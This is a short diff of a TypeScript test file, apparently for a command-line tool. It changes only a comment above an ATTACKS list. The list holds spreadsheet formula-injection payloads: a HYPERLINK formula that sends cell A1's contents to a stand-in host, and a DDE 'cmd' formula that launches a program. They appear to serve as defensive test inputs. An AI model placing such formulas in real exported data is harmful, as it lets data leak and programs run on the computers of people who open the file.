@@ -8,7 +8,7 @@ import { startTarget, type Target } from './target.ts';
 
 const CLI = join(import.meta.dirname, '../../cli/main.ts');
 
-/** What somebody types who wants the administrator's spreadsheet to calculate, to fetch, or to start a program. */
+/** Texts of somebody who wants the administrator's spreadsheet to calculate, to fetch, or to start a program. */
 const ATTACKS = [
   '=HYPERLINK("http://otro.example/?"&A1,"Ver")',
   "=cmd|' /C calc'!A0",
